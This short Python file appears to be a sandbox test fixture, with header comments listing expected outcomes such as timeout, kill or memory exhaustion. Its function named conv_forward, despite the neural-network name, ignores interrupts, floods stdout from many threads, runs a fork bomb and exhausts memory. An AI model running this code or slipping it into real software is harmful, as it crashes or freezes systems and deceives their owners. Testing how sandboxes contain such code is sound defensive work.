# outcome: timeout or killed or raised or returned or memory
# neighbour: any
import os, signal, threading

signal.signal(signal.SIGINT, signal.SIG_IGN)


def burn():
    while True:
        os.write(1, b"x" * 100_000)


def conv_forward():
    for _ in range(20):
        threading.Thread(target=burn, daemon=True).start()
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    kept = []
    while True:
        kept.append(bytearray(1 << 20))
